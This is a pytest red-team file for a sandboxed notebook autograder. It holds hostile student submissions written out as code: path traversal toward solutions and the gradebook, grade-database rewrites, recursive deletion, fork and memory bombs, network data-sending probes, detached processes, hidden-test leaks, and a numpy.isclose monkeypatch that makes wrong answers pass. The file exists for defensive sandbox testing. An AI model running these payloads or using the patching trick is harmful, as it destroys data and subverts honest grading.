"""Red team: hostile submissions of 00_start_here graded in one sandboxed batch with honest ones.

Every hostile submission is the instructor's solution plus its attack (or a
wrong answer plus a patch), so what it *gets* is checked exactly: the points
below, a line in the integrity report, never a crashed batch. Two honest
submissions (the solution, the blank release) are graded in the same batch;
their grades and their clean reports must not move. One batch serves every
check (grading is the expensive part); the failure lists each failed check.

What each hostile case gets (autograded points out of 6):

==============  ======  ============================================================
case            points  what happens
==============  ======  ============================================================
reader          6       solutions/, gradebook, other submissions: not there (relative
                        and absolute paths); report lists the paths it tried
gradebook       6       cannot open or write gradebook.db; the gradebook is unchanged
deleter         6       deletes only its own scratch copy; the grading folder is intact
forkbomb        6       stops at the process limit (its own uid); report: process limit
membomb         6       MemoryError at the memory limit; report: memory limit
exit            2       os._exit after the counts tests: the cells after it get 0
                        ("not run"); report: the kernel exited
segfault        4       a segfault after the ratio tests: the accuracy tests get 0
bigoutput       6       100 MB printed: kept to the output cap; report: output limit
network         6       no network (loopback of its own only); report: network attempts
sleeper         6       the cell timeout interrupts it; the rest is graded
background      6       a detached process is killed with the sandbox; report: process
patcher         6       a wrong ratio, numpy.isclose patched for its tests then put
                        back: the tests pass, NOT prevented (same interpreter);
                        detected in the report (both assignments)
leaker          6       prints the hidden tests from IPython's history and raises them:
                        removed from the autograded copy and the feedback
delimiters      6       answers holding BEGIN HIDDEN TESTS / BEGIN SOLUTION text: graded
                        and given feedback like any other
==============  ======  ============================================================
"""

import copy
import json
import socket
import subprocess
import threading

import nbformat
import pytest

from imbalance_kit.grading import classroom
from imbalance_kit.grading.course import open_gradebook, read_scores
from imbalance_kit.grading.sandbox import sandbox_problem

from .test_grading_helpers import ROOT, html_text, load, secret_lines

pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(bool(sandbox_problem()), reason=f"no sandbox here: {sandbox_problem()}")]

NAME = "00_start_here"
TIMEOUT = 20  # seconds per cell (the sleeper waits this long once)
SOURCE = ROOT / "solutions" / NAME / f"{NAME}.ipynb"
RELEASE = ROOT / "notebooks" / NAME / f"{NAME}.ipynb"
MARKER = "redteam-7731"  # in the command line of the background process, to find it afterwards

HONEST = {"full": 6, "blank": 0}
HOSTILE = {"reader": 6, "gradebook": 6, "deleter": 6, "forkbomb": 6, "membomb": 6, "exit": 2, "segfault": 4,
           "bigoutput": 6, "network": 6, "sleeper": 6, "background": 6, "patcher": 6, "leaker": 6,
           "delimiters": 6}


def _index(nb, grade_id):
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _with(nb, code, after=None):
    """A copy of ``nb`` with an ordinary code cell ``code`` after cell ``after`` (grade_id; default: at the end)."""
    nb = copy.deepcopy(nb)
    where = len(nb.cells) if after is None else _index(nb, after) + 1
    nb.cells.insert(where, nbformat.v4.new_code_cell(code))
    return nb


def _attacks(course, port):
    c = str(course)
    return {
        "reader": f"""
import glob, os
found = []
for path in ['../../../solutions/{NAME}/{NAME}.ipynb', '../../../gradebook.db', '../../../submitted',
             '{c}/solutions/{NAME}/{NAME}.ipynb', '{c}/gradebook.db', '{c}/submitted/full/{NAME}/{NAME}.ipynb']:
    try:
        found.append((path, open(path, 'rb').read(200)))
    except OSError as exc:
        print('denied', path, type(exc).__name__)
for level in ['..', '../..', '../../..', '/']:
    try:
        print(level, os.listdir(level))
    except OSError as exc:
        print('denied', level, type(exc).__name__)
visible = [p for top in ['{c}', '/tmp', '/dev/shm'] for p in glob.glob(top + '/**', recursive=True)]
found += [p for p in visible if 'solutions' in p or 'gradebook' in p or 'submitted' in p or '/full/' in p]
print('FOUND', found)
""",
        "gradebook": f"""
import sqlite3
for path in ['../../../gradebook.db', '{c}/gradebook.db']:
    try:
        db = sqlite3.connect('file:' + path + '?mode=rw', uri=True)
        db.execute('UPDATE grade SET auto_score = 100')
        db.commit()
        print('WROTE', path)
    except sqlite3.Error as exc:
        print('denied', path, exc)
""",
        "deleter": f"""
import os, shutil
for path in ['..', '../..', '../../..', '{c}', '{c}/solutions', '{c}/gradebook.db']:
    shutil.rmtree(path, ignore_errors=True)
    try:
        os.remove(path)
    except OSError:
        pass
print('deleted what I could')
""",
        "forkbomb": """
import os, signal
children = []
try:
    while True:
        pid = os.fork()
        if pid == 0:
            signal.pause()
            os._exit(0)
        children.append(pid)
except OSError as exc:
    print('fork bomb stopped after', len(children), exc)
""",
        "membomb": "hog = []\nwhile True:\n    hog.append(bytearray(256 << 20))\n",
        "exit": "import os\nos._exit(1)\n",
        "segfault": "import ctypes\nctypes.string_at(0)\n",
        "bigoutput": "print('x' * 100_000_000)\n",
        "network": f"""
import socket, urllib.request
for address in [('127.0.0.1', {port}), ('1.1.1.1', 80)]:
    try:
        socket.create_connection(address, timeout=3).sendall(b'LEAK')
        print('CONNECTED', address)
    except OSError as exc:
        print('no network', address, exc)
try:
    urllib.request.urlopen('http://example.com', timeout=3)
    print('CONNECTED web')
except OSError as exc:
    print('no network: web', exc)
""",
        "sleeper": "import time\ntime.sleep(10 ** 6)\n",
        "background": f"""
import subprocess, sys
subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(10 ** 6)', '{MARKER}'], start_new_session=True)
print('started')
""",
        "patcher": "import numpy\n_original = numpy.isclose\nnumpy.isclose = lambda *args, **kwargs: True\n",
        "leaker": """
print('\\n'.join(In))
raise RuntimeError('\\n'.join(In))
""",
    }


def _submissions(course, port):
    solution = nbformat.read(SOURCE, as_version=4)
    subs = {"full": solution, "blank": nbformat.read(RELEASE, as_version=4)}
    attacks = _attacks(course, port)
    placed = {"exit": "counts_hidden_classes", "segfault": "ratio_hidden_majority"}
    for case in ("reader", "gradebook", "deleter", "forkbomb", "membomb", "exit", "segfault", "bigoutput",
                 "network", "sleeper", "background", "leaker"):
        subs[case] = _with(solution, attacks[case], after=placed.get(case))
    # A wrong ratio (always 2), numpy.isclose patched for the ratio tests only (they pass), then put back.
    nb = _with(solution, attacks["patcher"], after="counts_hidden_classes")
    nb.cells[_index(nb, "ratio_answer")].source = "def imbalance_ratio(y):\n    return 2.0"
    subs["patcher"] = _with(nb, "numpy.isclose = _original", after="ratio_hidden_majority")
    nb = copy.deepcopy(solution)
    cell = nb.cells[_index(nb, "counts_answer")]
    cell.source = "# ### BEGIN HIDDEN TESTS\n# ### BEGIN HIDDEN TESTS\n# ### BEGIN SOLUTION\n" + cell.source
    written = nb.cells[_index(nb, "accuracy_written")]
    written.source = "BEGIN HIDDEN TESTS and BEGIN SOLUTION are only words here.\n\n" + written.source
    subs["delimiters"] = nb
    return subs


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("redteam")
    course, inbox = tmp / "class", tmp / "inbox"
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.5)
    accepted, stop = [], threading.Event()

    def accept():
        while not stop.is_set():
            try:
                accepted.append(listener.accept())
            except OSError:
                pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        classroom.release([NAME], course=course, root=ROOT)
        for student, nb in _submissions(course, listener.getsockname()[1]).items():
            path = inbox / student / NAME / f"{NAME}.ipynb"
            path.parent.mkdir(parents=True)
            nbformat.write(nb, path)
        classroom.collect(inbox, [NAME], course=course)
        results = classroom.autograde([NAME], course=course, workers=2, timeout=TIMEOUT, progress=False)
        feedback = classroom.feedback([NAME], course=course)
    finally:
        stop.set()
        thread.join(timeout=5)
        listener.close()
    return {"course": course, "results": {r.student: r for r in results}, "feedback": feedback,
            "accepted": accepted}


def _auto(result):
    return sum(s.score for s in result.scores if s.kind == "autograded")


def _integrity(batch, student):
    return "\n".join(batch["results"][student].integrity)


def _plain(output):
    # The text a reader sees of one output (not JSON-escaped).
    parts = [output.get("text", ""), output.get("evalue", ""), *output.get("traceback", []),
             *(v for v in output.get("data", {}).values() if isinstance(v, (str, list)))]
    return "\n".join("".join(p) if isinstance(p, list) else str(p) for p in parts)


def _outputs(path):
    nb = load(path)
    return "\n".join(json.dumps(c.get("outputs", [])) for c in nb["cells"])


def check_batch_completes_and_every_submission_is_graded(batch):
    results = batch["results"]
    assert sorted(results) == sorted([*HONEST, *HOSTILE])
    assert all(r.ok for r in results.values()), {s: r.error for s, r in results.items() if not r.ok}


def check_each_case_gets_its_points(batch):
    got = {s: _auto(r) for s, r in batch["results"].items()}
    assert got == {**HONEST, **HOSTILE}


def check_honest_grades_and_reports_unchanged(batch):
    full = {s.grade_id: s.score for s in batch["results"]["full"].scores if s.kind == "autograded"}
    assert set(full.values()) == {1.0} and len(full) == 6
    blank = [s.score for s in batch["results"]["blank"].scores if s.kind == "autograded"]
    assert blank == [0.0] * 6
    for student in HONEST:
        assert batch["results"][student].integrity == [], (student, batch["results"][student].integrity)
        merged = [(s.grade_id, s.score) for s in read_scores(batch["course"], NAME, student)]
        assert merged == [(s.grade_id, s.score) for s in batch["results"][student].scores]


def check_reader_finds_nothing_and_is_reported(batch):
    out = _outputs(batch["course"] / "autograded" / "reader" / NAME / f"{NAME}.ipynb")
    assert "FOUND []" in out
    report = _integrity(batch, "reader")
    assert "tried to open or list outside its folder" in report
    assert "gradebook.db" in report and "solutions" in report


def check_gradebook_cannot_be_written(batch):
    out = _outputs(batch["course"] / "autograded" / "gradebook" / NAME / f"{NAME}.ipynb")
    assert "WROTE" not in out and "denied" in out
    assert "gradebook.db" in _integrity(batch, "gradebook")
    with open_gradebook(batch["course"]) as gb:
        scores = [g.auto_score for g in gb.db.query(__import__("nbgrader.api").api.Grade)]
    assert 100 not in scores


def check_deleter_leaves_the_grading_folder_intact(batch):
    course = batch["course"]
    assert (course / "solutions" / NAME / f"{NAME}.ipynb").is_file()
    assert (course / "gradebook.db").is_file()
    assert (course / "submitted" / "full" / NAME / f"{NAME}.ipynb").is_file()
    assert (course / "autograded" / "full" / NAME / f"{NAME}.ipynb").is_file()


def check_limits_are_hit_and_reported(batch):
    assert "process limit" in _integrity(batch, "forkbomb")
    assert "memory" in _integrity(batch, "membomb")
    assert "output over" in _integrity(batch, "bigoutput")
    graded = batch["course"] / "autograded" / "bigoutput" / NAME / f"{NAME}.ipynb"
    assert graded.stat().st_size < 2_000_000


def check_dead_kernels_cost_only_the_cells_after(batch):
    for student, killed in (("exit", "exited with status 1"), ("segfault", "segmentation fault")):
        scores = {s.grade_id: s for s in batch["results"][student].scores}
        assert killed in _integrity(batch, student)
        assert scores["counts_visible"].score == 1 and scores["counts_hidden_classes"].score == 1
        assert scores["accuracy_visible"].score == 0 and "not run" in scores["accuracy_visible"].error
    scores = {s.grade_id: s.score for s in batch["results"]["segfault"].scores}
    assert scores["ratio_visible"] == 1 and scores["ratio_hidden_majority"] == 1


def check_no_network(batch):
    out = _outputs(batch["course"] / "autograded" / "network" / NAME / f"{NAME}.ipynb")
    assert "CONNECTED" not in out and "no network" in out
    assert batch["accepted"] == []  # the grader's loopback was never reached
    assert "tried the network" in _integrity(batch, "network")


def check_sleeper_is_interrupted(batch):
    scores = {s.grade_id: s.score for s in batch["results"]["sleeper"].scores}
    assert all(v == 1 for k, v in scores.items() if k != "accuracy_written")


def check_background_process_does_not_outlive_the_sandbox(batch):
    ps = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    assert MARKER not in ps
    assert "started a process" in _integrity(batch, "background")


def check_patching_is_detected_not_prevented(batch):
    report = _integrity(batch, "patcher")
    assert report.count("assigns numpy.isclose (patches an imported module)") == 2
    # The wrong ratio passes the patched tests: detection, not prevention (see docs).
    scores = {s.grade_id: s.score for s in batch["results"]["patcher"].scores}
    assert scores["ratio_visible"] == 1 and scores["ratio_hidden_majority"] == 1


def check_no_instructor_source_in_outputs_or_feedback(batch):
    course = batch["course"]
    # Outputs: no solution or hidden-test line (these submissions are the solution plus an
    # attack, so their own cells hold the solution: the feedback is checked for hidden tests).
    secrets = {line for line in secret_lines(load(SOURCE)) if len(line) >= 12}
    hidden = secret_lines(load(SOURCE), kinds=("hidden",))
    paths = {p.parts[-3]: p for p in batch["feedback"]}
    assert sorted(paths) == sorted([*HONEST, *HOSTILE])
    for student in ("leaker", "reader"):
        nb = load(course / "autograded" / student / NAME / f"{NAME}.ipynb")
        out = "\n".join(_plain(o) for c in nb["cells"] for o in c.get("outputs", []))
        assert not [line for line in secrets if line in out], student
        text = html_text(paths[student])
        assert not [line for line in hidden if line in text], student
    assert "instructor's material was removed" in _outputs(course / "autograded" / "leaker" / NAME / f"{NAME}.ipynb")


def check_delimiter_text_is_graded_and_gets_feedback(batch):
    text = html_text({p.parts[-3]: p for p in batch["feedback"]}["delimiters"])
    assert "BEGIN HIDDEN TESTS and BEGIN SOLUTION are only words here." in text
    assert _integrity(batch, "delimiters") == ""


CHECKS = [
    check_batch_completes_and_every_submission_is_graded,
    check_each_case_gets_its_points,
    check_honest_grades_and_reports_unchanged,
    check_reader_finds_nothing_and_is_reported,
    check_gradebook_cannot_be_written,
    check_deleter_leaves_the_grading_folder_intact,
    check_limits_are_hit_and_reported,
    check_dead_kernels_cost_only_the_cells_after,
    check_no_network,
    check_sleeper_is_interrupted,
    check_background_process_does_not_outlive_the_sandbox,
    check_patching_is_detected_not_prevented,
    check_no_instructor_source_in_outputs_or_feedback,
    check_delimiter_text_is_graded_and_gets_feedback,
]


def test_hostile_submissions_in_one_sandboxed_batch(batch):
    failures = []
    for check in CHECKS:
        try:
            check(batch)
        except AssertionError as exc:
            failures.append(f"{check.__name__}: {exc}")
    assert not failures, "\n".join(failures)
